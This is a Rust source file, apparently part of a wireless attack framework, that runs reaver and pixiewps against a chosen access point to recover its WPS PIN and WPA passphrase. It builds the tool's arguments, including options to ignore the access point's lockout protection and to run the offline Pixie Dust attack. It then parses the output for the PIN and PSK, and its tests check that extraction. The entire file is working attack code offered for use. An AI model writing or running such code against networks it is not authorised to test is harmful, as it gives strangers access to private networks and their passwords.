//! WPS PIN recovery engine.
//!
//! Drives an external brute-force tool (reaver, with pixiewps as its
//! PIN-computation helper) as a child process in its own process group,
//! scanning the merged stdout/stderr stream line by line. The tool
//! reports progress with carriage returns, so the scanner splits on LF
//! *or* CR. Recovered PIN/PSK and phase hints are extracted with
//! regexes; the whole process group is killed on cancellation or
//! deadline so the helper can never be orphaned.

use super::controller::AttackController;
use super::engine::EngineCore;
use super::{AttackError, AttackKind, AttackStatus};
use crate::config::WpsToolConfig;
use crate::types::{MacAddr, DEFAULT_EAPOL_TIMEOUT_SECS, DEFAULT_WPS_TIMEOUT_SECS};
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncReadExt;
use tokio::sync::mpsc;
use tracing::{debug, info, warn};
use uuid::Uuid;

/// Linux ARPHRD type for an interface in radiotap monitor mode.
const ARPHRD_IEEE80211_RADIOTAP: &str = "803";

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, rename_all = "kebab-case")]
pub struct WpsConfig {
    /// BSSID under attack. Required.
    pub target: MacAddr,
    pub channel: u16,
    /// Monitor-mode interface; auto-detected when empty.
    pub interface: String,
    /// Wall-clock budget for the whole run.
    pub timeout_secs: u64,
    /// -K: run the offline Pixie Dust attack.
    pub force_pixie: bool,
    /// -N: don't send NACKs on out-of-order packets.
    pub no_nacks: bool,
    /// -L: ignore locked-state reports from the AP.
    pub ignore_locks: bool,
    /// -S: use small Diffie-Hellman secrets.
    pub small_dh: bool,
    /// -w: mimic a Windows 7 registrar.
    pub imitate_win7: bool,
    /// -d: seconds between PIN attempts.
    pub delay: u64,
    /// -f: seconds to wait after a failure; omitted when 0.
    pub fail_wait: u64,
    /// -t: EAPOL timeout handed to the tool.
    pub eapol_timeout: u64,
}

impl Default for WpsConfig {
    fn default() -> Self {
        Self {
            target: MacAddr::ZERO,
            channel: 0,
            interface: String::new(),
            timeout_secs: DEFAULT_WPS_TIMEOUT_SECS,
            force_pixie: false,
            no_nacks: false,
            ignore_locks: false,
            small_dh: false,
            imitate_win7: false,
            delay: 0,
            fail_wait: 0,
            eapol_timeout: DEFAULT_EAPOL_TIMEOUT_SECS,
        }
    }
}

/// Intermediate phases reported over the status stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum WpsPhase {
    Associating,
    ExchangingKeys,
    Cracking,
}

impl fmt::Display for WpsPhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            WpsPhase::Associating => "associating",
            WpsPhase::ExchangingKeys => "exchanging-keys",
            WpsPhase::Cracking => "cracking",
        };
        f.write_str(s)
    }
}

/// One extracted fact from a line of tool output.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LineEvent {
    Pin(String),
    Psk(String),
    Phase(WpsPhase),
}

/// Compiled extractors for the tool's output. Hint precedence is
/// deterministic: the first pattern to match a line wins.
pub struct WpsPatterns {
    pin: Regex,
    psk: Regex,
    associating: Regex,
    exchanging: Regex,
    cracking: Regex,
}

impl WpsPatterns {
    pub fn new() -> Self {
        Self {
            pin: Regex::new(r#"WPS PIN:\s*['"]?([0-9]+)['"]?"#).expect("static regex"),
            psk: Regex::new(r#"WPA PSK:\s*['"]?([^'"]+)['"]?"#).expect("static regex"),
            associating: Regex::new(r"Waiting for beacon|Associated with").expect("static regex"),
            exchanging: Regex::new(r"Sending EAPOL|WPS transaction successful|Sending identity response")
                .expect("static regex"),
            cracking: Regex::new(r"Pixiewps|Running pixiewps").expect("static regex"),
        }
    }

    pub fn classify(&self, line: &str) -> Option<LineEvent> {
        if let Some(caps) = self.pin.captures(line) {
            return Some(LineEvent::Pin(caps[1].to_string()));
        }
        if let Some(caps) = self.psk.captures(line) {
            return Some(LineEvent::Psk(caps[1].to_string()));
        }
        if self.associating.is_match(line) {
            return Some(LineEvent::Phase(WpsPhase::Associating));
        }
        if self.exchanging.is_match(line) {
            return Some(LineEvent::Phase(WpsPhase::ExchangingKeys));
        }
        if self.cracking.is_match(line) {
            return Some(LineEvent::Phase(WpsPhase::Cracking));
        }
        None
    }
}

impl Default for WpsPatterns {
    fn default() -> Self {
        Self::new()
    }
}

pub struct WpsEngine {
    core: EngineCore,
    tools: WpsToolConfig,
    patterns: Arc<WpsPatterns>,
}

impl WpsEngine {
    pub fn new(core: EngineCore, tools: WpsToolConfig) -> Arc<Self> {
        Arc::new(Self { core, tools, patterns: Arc::new(WpsPatterns::new()) })
    }

    /// Both external executables must exist before a run starts.
    pub fn health_check(&self) -> Result<PathBuf, AttackError> {
        let reaver = resolve_tool(self.tools.reaver_path.as_deref(), "reaver")?;
        resolve_tool(self.tools.pixiewps_path.as_deref(), "pixiewps")?;
        Ok(reaver)
    }

    pub async fn start(&self, cfg: WpsConfig) -> Result<Uuid, AttackError> {
        if cfg.target.is_zero() || cfg.target.is_broadcast() {
            return Err(AttackError::ConfigInvalid("target BSSID required".into()));
        }
        let tool = self.health_check()?;
        let interface = resolve_monitor_interface(&cfg)?;

        let config_json = serde_json::to_value(&cfg).unwrap_or(serde_json::Value::Null);
        let controller = AttackController::new(AttackKind::Wps, config_json);
        self.core.register(controller.clone())?;

        info!(
            "Starting WPS recovery against {} on {} (id {}, budget {}s)",
            cfg.target, interface, controller.id, cfg.timeout_secs
        );

        let worker_ctrl = controller.clone();
        let locker = self.core.locker.clone();
        let patterns = self.patterns.clone();
        self.core.supervise(controller.clone(), async move {
            let budget = Duration::from_secs(cfg.timeout_secs.max(1));
            let drive = async {
                match (&locker, cfg.channel) {
                    (Some(locker), ch) if ch > 0 => locker
                        .execute_with_lock(
                            &interface,
                            ch,
                            drive_tool(worker_ctrl.clone(), &tool, &cfg, &interface, &patterns),
                        )
                        .await
                        .map_err(AttackError::from)
                        .and_then(|r| r),
                    _ => drive_tool(worker_ctrl.clone(), &tool, &cfg, &interface, &patterns).await,
                }
            };

            match tokio::time::timeout(budget, drive).await {
                Ok(Ok(())) => finish(&worker_ctrl),
                Ok(Err(e)) => {
                    worker_ctrl.fail(e.to_string());
                }
                Err(_) => {
                    // Deadline. A PIN that arrived just before still
                    // counts as success.
                    if worker_ctrl.snapshot().pin.is_some() {
                        worker_ctrl.set_status(AttackStatus::Success);
                    } else {
                        worker_ctrl.set_status(AttackStatus::Timeout);
                    }
                }
            }
        });

        controller.set_status(AttackStatus::Running);
        Ok(controller.id)
    }

    /// Declared but not supported by the underlying tool.
    pub fn pause(&self, id: Uuid) -> Result<(), AttackError> {
        let _ = self.core.get(id)?;
        Err(AttackError::IllegalState("WPS pause/resume is not supported".into()))
    }

    pub fn stop(&self, id: Uuid, force: bool) -> Result<(), AttackError> {
        self.core.stop(id, force)
    }

    pub fn status(&self, id: Uuid) -> Result<super::ControllerSnapshot, AttackError> {
        self.core.status(id)
    }

    pub fn subscribe(
        &self,
        id: Uuid,
    ) -> Result<tokio::sync::watch::Receiver<super::ControllerSnapshot>, AttackError> {
        self.core.subscribe(id)
    }

    pub fn list(&self) -> Vec<super::ControllerSnapshot> {
        self.core.list()
    }

    pub fn stop_all(&self) {
        self.core.stop_all()
    }

    pub fn sweep_finished(&self) -> usize {
        self.core.sweep_finished()
    }
}

fn finish(controller: &AttackController) {
    let snap = controller.snapshot();
    if snap.pin.is_some() {
        info!("Attack {}: WPS PIN recovered", controller.id);
        controller.set_status(AttackStatus::Success);
    } else if controller.is_cancelled() {
        controller.fail("Stopped by user");
    } else {
        controller.fail("tool exited without recovering a PIN");
    }
}

/// Locate an executable: explicit path wins, otherwise search PATH.
fn resolve_tool(configured: Option<&Path>, name: &str) -> Result<PathBuf, AttackError> {
    if let Some(path) = configured {
        if path.is_file() {
            return Ok(path.to_path_buf());
        }
        return Err(AttackError::ExternalToolMissing(format!(
            "{} not found at {}",
            name,
            path.display()
        )));
    }
    let path_var = std::env::var_os("PATH").unwrap_or_default();
    for dir in std::env::split_paths(&path_var) {
        let candidate = dir.join(name);
        if candidate.is_file() {
            return Ok(candidate);
        }
    }
    Err(AttackError::ExternalToolMissing(name.to_string()))
}

/// The configured interface, or the first one the kernel reports in
/// radiotap monitor mode.
fn resolve_monitor_interface(cfg: &WpsConfig) -> Result<String, AttackError> {
    if !cfg.interface.is_empty() {
        return Ok(cfg.interface.clone());
    }
    let entries = std::fs::read_dir("/sys/class/net")
        .map_err(|e| AttackError::Hardware(format!("cannot enumerate interfaces: {e}")))?;
    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if let Ok(kind) = std::fs::read_to_string(entry.path().join("type"))
            && kind.trim() == ARPHRD_IEEE80211_RADIOTAP
        {
            debug!("Auto-detected monitor interface {}", name);
            return Ok(name);
        }
    }
    Err(AttackError::Hardware("no monitor-capable interface found".into()))
}

/// Build the tool's argument list from the config.
pub fn build_args(cfg: &WpsConfig, interface: &str) -> Vec<String> {
    let mut args = vec![
        "-i".into(),
        interface.to_string(),
        "-b".into(),
        cfg.target.to_string(),
        "-c".into(),
        cfg.channel.to_string(),
        "-vv".into(),
    ];
    if cfg.force_pixie {
        args.push("-K".into());
    }
    if cfg.no_nacks {
        args.push("-N".into());
    }
    if cfg.ignore_locks {
        args.push("-L".into());
    }
    if cfg.small_dh {
        args.push("-S".into());
    }
    if cfg.imitate_win7 {
        args.push("-w".into());
    }
    args.push("-d".into());
    args.push(cfg.delay.to_string());
    if cfg.fail_wait > 0 {
        args.push("-f".into());
        args.push(cfg.fail_wait.to_string());
    }
    args.push("-t".into());
    args.push(cfg.eapol_timeout.to_string());
    args.push("-F".into());
    args
}

async fn drive_tool(
    controller: Arc<AttackController>,
    tool: &Path,
    cfg: &WpsConfig,
    interface: &str,
    patterns: &WpsPatterns,
) -> Result<(), AttackError> {
    let args = build_args(cfg, interface);
    debug!("Spawning {} {}", tool.display(), args.join(" "));

    let mut child = tokio::process::Command::new(tool)
        .args(&args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        // Own process group: one signal tears down the helper the tool
        // spawns, too.
        .process_group(0)
        .spawn()
        .map_err(|e| AttackError::Hardware(format!("failed to spawn WPS tool: {e}")))?;

    // The deadline wrapper cancels this future by dropping it; the
    // guard makes sure the process group dies on that path too.
    let pid = child.id();
    let _reaper = GroupKillGuard(pid);
    let (line_tx, mut line_rx) = mpsc::unbounded_channel::<String>();
    if let Some(stdout) = child.stdout.take() {
        tokio::spawn(scan_stream(stdout, line_tx.clone()));
    }
    if let Some(stderr) = child.stderr.take() {
        tokio::spawn(scan_stream(stderr, line_tx.clone()));
    }
    drop(line_tx);

    let token = controller.cancel_token();
    let mut have_pin = false;
    let mut have_psk = false;

    loop {
        let line = tokio::select! {
            _ = token.cancelled() => break,
            line = line_rx.recv() => match line {
                Some(line) => line,
                None => break, // both streams hit EOF
            },
        };

        controller.append_log(&line);
        match patterns.classify(&line) {
            Some(LineEvent::Pin(pin)) => {
                info!("Attack {}: extracted WPS PIN", controller.id);
                controller.set_pin(pin);
                have_pin = true;
            }
            Some(LineEvent::Psk(psk)) => {
                controller.set_psk(psk);
                have_psk = true;
            }
            Some(LineEvent::Phase(phase)) => {
                controller.set_phase(phase.to_string());
            }
            None => {}
        }
        if have_pin && have_psk {
            break;
        }
    }

    // Whatever path got us here, no orphans.
    kill_process_group(pid);
    let _ = child.wait().await;
    Ok(())
}

/// Split a byte stream into lines on LF or CR, tolerating the tool's
/// carriage-return progress output.
async fn scan_stream<R: tokio::io::AsyncRead + Unpin>(
    mut reader: R,
    tx: mpsc::UnboundedSender<String>,
) {
    let mut pending = Vec::new();
    let mut chunk = [0u8; 1024];
    loop {
        let n = match reader.read(&mut chunk).await {
            Ok(0) | Err(_) => break,
            Ok(n) => n,
        };
        for &byte in &chunk[..n] {
            if byte == b'\n' || byte == b'\r' {
                if !pending.is_empty() {
                    let line = String::from_utf8_lossy(&pending).into_owned();
                    pending.clear();
                    if tx.send(line).is_err() {
                        return;
                    }
                }
            } else {
                pending.push(byte);
            }
        }
    }
    if !pending.is_empty() {
        let _ = tx.send(String::from_utf8_lossy(&pending).into_owned());
    }
}

struct GroupKillGuard(Option<u32>);

impl Drop for GroupKillGuard {
    fn drop(&mut self) {
        kill_process_group(self.0);
    }
}

fn kill_process_group(pid: Option<u32>) {
    if let Some(pid) = pid {
        let rc = unsafe { libc::killpg(pid as i32, libc::SIGKILL) };
        if rc != 0 {
            let err = std::io::Error::last_os_error();
            // ESRCH just means it already exited.
            if err.raw_os_error() != Some(libc::ESRCH) {
                warn!("Failed to kill WPS process group {}: {}", pid, err);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_pin_and_psk_extraction() {
        let p = WpsPatterns::new();
        assert_eq!(
            p.classify("[+] WPS PIN: '12345670'"),
            Some(LineEvent::Pin("12345670".into()))
        );
        assert_eq!(
            p.classify("[+] WPA PSK: 'secretpassword'"),
            Some(LineEvent::Psk("secretpassword".into()))
        );
        // Unquoted variants appear in some tool versions.
        assert_eq!(
            p.classify("WPS PIN: 00000000"),
            Some(LineEvent::Pin("00000000".into()))
        );
    }

    #[test]
    fn test_phase_hints() {
        let p = WpsPatterns::new();
        assert_eq!(
            p.classify("Waiting for beacon from 00:11:22:33:44:55"),
            Some(LineEvent::Phase(WpsPhase::Associating))
        );
        assert_eq!(
            p.classify("Associated with 00:11:22:33:44:55"),
            Some(LineEvent::Phase(WpsPhase::Associating))
        );
        assert_eq!(
            p.classify("Sending EAPOL start request"),
            Some(LineEvent::Phase(WpsPhase::ExchangingKeys))
        );
        assert_eq!(
            p.classify("Running pixiewps..."),
            Some(LineEvent::Phase(WpsPhase::Cracking))
        );
        assert_eq!(p.classify("nothing interesting"), None);
    }

    #[test]
    fn test_args_order_and_flags() {
        let cfg = WpsConfig {
            target: "AA:BB:CC:DD:EE:FF".parse().unwrap(),
            channel: 6,
            force_pixie: true,
            small_dh: true,
            fail_wait: 30,
            ..Default::default()
        };
        let args = build_args(&cfg, "wlan0mon");
        assert_eq!(
            args,
            vec![
                "-i", "wlan0mon", "-b", "AA:BB:CC:DD:EE:FF", "-c", "6", "-vv", "-K", "-S",
                "-d", "0", "-f", "30", "-t", "7", "-F",
            ]
        );
    }

    #[test]
    fn test_fail_wait_omitted_when_zero() {
        let cfg = WpsConfig {
            target: "AA:BB:CC:DD:EE:FF".parse().unwrap(),
            ..Default::default()
        };
        let args = build_args(&cfg, "wlan0mon");
        assert!(!args.contains(&"-f".to_string()));
        assert!(args.contains(&"-d".to_string()));
    }

    #[tokio::test]
    async fn test_scan_stream_splits_on_cr_and_lf() {
        let data: &[u8] = b"line one\rline two\nline three";
        let (tx, mut rx) = mpsc::unbounded_channel();
        scan_stream(data, tx).await;
        assert_eq!(rx.recv().await.unwrap(), "line one");
        assert_eq!(rx.recv().await.unwrap(), "line two");
        assert_eq!(rx.recv().await.unwrap(), "line three");
        assert!(rx.recv().await.is_none());
    }

    #[test]
    fn test_resolve_tool_explicit_path() {
        let missing = PathBuf::from("/nonexistent/reaver");
        assert!(matches!(
            resolve_tool(Some(missing.as_path()), "reaver"),
            Err(AttackError::ExternalToolMissing(_))
        ));
        // /bin/sh exists everywhere we run.
        resolve_tool(Some(Path::new("/bin/sh")), "reaver").unwrap();
    }
}
